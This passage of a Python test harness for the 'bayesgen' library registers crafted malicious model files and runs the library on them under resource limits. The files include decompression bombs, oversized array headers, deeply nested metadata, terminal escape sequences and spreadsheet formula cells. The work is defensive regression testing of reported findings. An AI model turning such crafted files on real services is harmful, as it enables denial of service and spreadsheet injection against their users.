    second's (what the old loader read)."""
    model = _legit("gaussian")
    key = model.first_matrix()
    first = model.members[f"arrays/{key}.npy"]
    model.put(key, model.array(key) * 2.0)
    second = stored(f"arrays/{key}.npy", model.members[f"arrays/{key}.npy"])
    model.members[f"arrays/{key}.npy"] = first
    return pack(Path(folder) / "duplicate_array.bgm", model, extra=[second])


@dataclass(frozen=True)
class Attack:
    """One crafted file: the issue's finding it reproduces, its builder, and the commands
    (after ``bayesgen``, ``{model}`` and ``{tmp}`` filled in) that show its cost."""

    name: str
    finding: int
    build: Callable[[Path], Path]
    commands: tuple[tuple[str, ...], ...] = (("inspect", "{model}"),)


_INSPECT = ("inspect", "{model}")
_SAMPLE = ("sample", "{model}", "-n", "1000", "-o", "{tmp}/out.csv")
_SAMPLE_20 = ("sample", "{model}", "-n", "20", "-o", "{tmp}/out.csv")
ATTACKS = (
    Attack("deflate_1gib", 1, deflate_1gib),
    Attack("deflate_8gib_huge_shape", 1, deflate_8gib_huge_shape),
    Attack("deflate_8gib_shape_64", 1, deflate_8gib_shape_64),
    Attack("trailing_1gib", 1, trailing_1gib),
    Attack("bzip2_member", 1, bzip2_member),
    Attack("lzma_member", 1, lzma_member),
    Attack("bzip2_manifest", 1, bzip2_manifest),
    Attack("refs_full_400", 2, refs_full_400),
    Attack("refs_full_60", 2, refs_full_60),
    Attack("refs_lowrank_400", 2, refs_lowrank_400),
    Attack("refs_lowrank_250", 2, refs_lowrank_250),
    Attack("refs_priors_10", 2, refs_priors_10),
    Attack("u0_labels", 3, u0_labels),
    Attack("manifest_63mb", 3, manifest_63mb),
    Attack("copula_studentized_range", 3, copula_studentized_range, (_INSPECT, _SAMPLE)),
    Attack("deep_metadata", 4, deep_metadata),
    Attack("deep_model", 4, deep_model),
    Attack("encrypted_member", 4, encrypted_member),
    Attack("npy_header_8tb", 4, npy_header_8tb),
    Attack("metadata_wrong_types", 4, metadata_wrong_types),
    Attack("auto_without_criterion", 4, auto_without_criterion),
    Attack("copula_feature_999", 4, copula_feature_999, (_INSPECT, _SAMPLE)),
    Attack("scipy_five_params", 4, scipy_five_params, (_INSPECT, _SAMPLE)),
    Attack("escape_sequences", 5, escape_sequences),
    Attack("formula_cells", 5, formula_cells, (_SAMPLE_20,)),
    Attack("duplicate_manifest", 6, duplicate_manifest),
    Attack("duplicate_array", 6, duplicate_array),
)


def build(folder: Path, names=None) -> dict[str, Path]:
    """Build the attacks named (all by default) into ``folder``; returns name -> path."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    return {a.name: a.build(folder) for a in ATTACKS if names is None or a.name in names}


# -- running under limits ---------------------------------------------------------------------


@dataclass
class Run:
    """How a limited child ended: exit code (negative: killed by that signal), its output,
    its peak resident memory and wall time, and whether the wall-clock guard stopped it."""

    rc: int
    stdout: str
    stderr: str
    peak_mib: float
    seconds: float
    timed_out: bool


def child_env(src: str | os.PathLike | None = None) -> dict:
    """The environment of a child: one BLAS thread (the machine is shared; attack costs do
    not depend on it) and, with ``src``, that source tree first on the import path."""
    env = dict(os.environ, OPENBLAS_NUM_THREADS="1", OMP_NUM_THREADS="1", MKL_NUM_THREADS="1")
    if src is not None:
        env["PYTHONPATH"] = str(src)
    return env


def run_limited(
    argv: list[str],
    *,
    memory_bytes: int = 3 * GIB,
    cpu_seconds: int = 60,
    timeout: float = 120.0,
    env: dict | None = None,
    cwd: str | os.PathLike | None = None,
) -> Run:
    """Run ``argv`` with ``RLIMIT_AS``/``RLIMIT_CPU`` and a wall-clock timeout.

    The command is started by a small launcher process, not by this one: Linux carries a
    process's resident size across ``exec`` into the child's ``ru_maxrss``, so a child
    forked straight from a big test runner would report the runner's size as its peak.
    """
    with tempfile.TemporaryDirectory(prefix="bayesgen-limited-") as scratch:
        config = {
            "argv": [str(a) for a in argv],
            "env": env if env is not None else child_env(),
            "cwd": str(cwd) if cwd is not None else os.getcwd(),
            "stdout": os.path.join(scratch, "stdout"),
            "stderr": os.path.join(scratch, "stderr"),
            "memory_bytes": int(memory_bytes),
            "cpu_seconds": int(cpu_seconds),
            "timeout": float(timeout),
        }
        config_path = os.path.join(scratch, "config.json")
        with open(config_path, "w") as handle:
            json.dump(config, handle)
        done = subprocess.run(
            [sys.executable, "-I", os.path.abspath(__file__), "launch", config_path],
            capture_output=True,
            text=True,
            timeout=timeout + 60,
            check=False,
        )
        if done.returncode != 0:
            raise RuntimeError(f"the launcher failed: {done.stderr}")
        result = json.loads(done.stdout)

        def text(name: str) -> str:
            with open(config[name], "rb") as handle:
                return handle.read().decode("utf-8", "replace")

        return Run(
            rc=os.waitstatus_to_exitcode(result["status"]),
            stdout=text("stdout"),
            stderr=text("stderr"),
            peak_mib=result["maxrss_kib"] / 1024,
            seconds=result["seconds"],
            timed_out=result["timed_out"],
        )


def _launch(config_path: str) -> None:
    """Launcher: limit this small process, spawn the command, wait, print how it ended."""
    with open(config_path) as handle:
        config = json.load(handle)
    memory, cpu = config["memory_bytes"], config["cpu_seconds"]
    resource.setrlimit(resource.RLIMIT_AS, (memory, memory))
    resource.setrlimit(resource.RLIMIT_CPU, (cpu, cpu + 5))  # SIGXCPU, then SIGKILL
    flags = os.O_WRONLY | os.O_CREAT | os.O_TRUNC
    actions = [
        (os.POSIX_SPAWN_OPEN, 0, os.devnull, os.O_RDONLY, 0),
        (os.POSIX_SPAWN_OPEN, 1, config["stdout"], flags, 0o644),
        (os.POSIX_SPAWN_OPEN, 2, config["stderr"], flags, 0o644),
    ]
    os.chdir(config["cwd"])
    start = time.perf_counter()
    pid = os.posix_spawn(config["argv"][0], config["argv"], config["env"], file_actions=actions)
    timed_out = False
    while True:
        done, status, usage = os.wait4(pid, os.WNOHANG)
        if done:
            break
        if time.perf_counter() - start > config["timeout"]:
            timed_out = True
            os.kill(pid, signal.SIGKILL)
            _, status, usage = os.wait4(pid, 0)
            break
        time.sleep(0.02)
    result = {
        "status": status,
        "maxrss_kib": usage.ru_maxrss,
        "seconds": round(time.perf_counter() - start, 3),
        "timed_out": timed_out,
    }
    print(json.dumps(result))


class _Overtime(BaseException):
    """Raised by a probe step's alarm: a BaseException, so that no ``except Exception`` in
    the code under test can turn it into an ordinary error."""


def _raise_overtime(signum, frame):
    raise _Overtime


def probe_steps(
    steps: list[dict],
    *,
    step_seconds: int = 15,
    src=None,
    memory_bytes: int = 3 * GIB,
    cpu_seconds: int = 60,
    timeout: float = 150.0,
    cwd=None,
) -> tuple[Run, dict[str, dict]]:
    """Run ``steps`` in one limited child that imports bayesgen once.

    A step is ``{"id": ..., "load": path}`` (``bayesgen.load``) or ``{"id": ..., "argv":
    [...]}`` (``bayesgen.cli.main(argv)``, output captured).  Each step has an alarm of
    ``step_seconds``.  Returns the child's :class:`Run` and, per step id, a record with
    ``outcome`` ("returned", "raised" or "overtime"), ``exit`` (CLI), ``error_type``,
    ``message``, ``stdout``, ``stderr`` (with the traceback of anything that escaped) and
    ``seconds``.  Steps missing from the records did not finish (the child was killed).
    """
    with tempfile.TemporaryDirectory(prefix="bayesgen-probe-") as scratch:
        plan = os.path.join(scratch, "plan.json")
        with open(plan, "w") as handle:
            json.dump({"steps": steps, "step_seconds": step_seconds}, handle)
        run = run_limited(
            [sys.executable, os.path.abspath(__file__), "probe", plan],
            memory_bytes=memory_bytes,
            cpu_seconds=cpu_seconds,
            timeout=timeout,
            env=child_env(src),
            cwd=cwd,
        )
    records = {}
    for line in run.stdout.splitlines():
        if line.startswith("PROBE "):
            record = json.loads(line[6:])
            records[record["id"]] = record
    return run, records


def _probe_one(step: dict, step_seconds: int) -> dict:
    import contextlib
    import traceback

    import bayesgen
    import bayesgen.cli

    out = io.TextIOWrapper(io.BytesIO(), encoding="utf-8", write_through=True)
    err = io.TextIOWrapper(io.BytesIO(), encoding="utf-8", write_through=True)
    record = {"id": step["id"], "outcome": "returned"}
    start = time.perf_counter()
    signal.alarm(step_seconds)
    try:
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            if "load" in step:
                bayesgen.load(step["load"])
            else:
                record["exit"] = bayesgen.cli.main(step["argv"])
    except _Overtime:
        record["outcome"] = "overtime"
    except BaseException as exc:  # noqa: BLE001 - whatever escapes is what the test reports
        signal.alarm(0)
        record.update(outcome="raised", error_type=type(exc).__name__, message=str(exc)[:4000])
        try:
            err.write(traceback.format_exc())  # what Python would print for the command
        except BaseException:  # noqa: BLE001 - e.g. MemoryError again while formatting
            err.write(f"Traceback (most recent call last):\n{type(exc).__name__}\n")
    finally:
        signal.alarm(0)
    record["seconds"] = round(time.perf_counter() - start, 3)
    for key, stream in (("stdout", out), ("stderr", err)):
        record[key] = stream.buffer.getvalue()[:20000].decode("utf-8", "replace")
    return record


def _probe(plan_path: str) -> None:
    """Prober: import bayesgen (and scipy.stats, which some models need) once, then run each
    step and print one ``PROBE {json}`` line per step as soon as it ends."""
    import scipy.stats  # noqa: F401 - part of the baseline cost, not of any step

    import bayesgen.cli  # noqa: F401

    with open(plan_path) as handle:
        plan = json.load(handle)
    signal.signal(signal.SIGALRM, _raise_overtime)
    real_stdout = sys.stdout
    for step in plan["steps"]:
        record = _probe_one(step, plan["step_seconds"])
        real_stdout.write("PROBE " + json.dumps(record) + "\n")
        real_stdout.flush()


if __name__ == "__main__":
    command, argument = sys.argv[1], sys.argv[2]
    if command == "launch":
        _launch(argument)
    elif command == "probe":
        _probe(argument)
    elif command == "build":  # build [DIR] [NAMES...]: prints name -> path as JSON
        names = set(sys.argv[3:]) or None
        print(json.dumps({k: str(v) for k, v in build(Path(argument), names).items()}))
    else:
        raise SystemExit(f"unknown command {command!r}")
